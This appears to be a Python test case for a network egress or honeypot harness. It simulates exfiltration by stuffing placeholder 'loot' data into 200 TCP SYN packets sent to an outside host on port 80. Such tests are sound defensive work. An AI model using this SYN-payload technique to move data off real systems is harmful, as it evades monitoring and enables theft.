# SPDX-License-Identifier: Apache-2.0
"""SYNs carry the loot: 1400 bytes each, no connection needed."""
from kit import *

ALLOWED, AT_LEAST = TCP, 1


def attack(pot, out, family):
    pot.send_packets([tcp(pot.ip(family), 1024 + n, out.ip(family), 80, "S", n, 0, b"loot" * 340)
                      for n in range(200)])
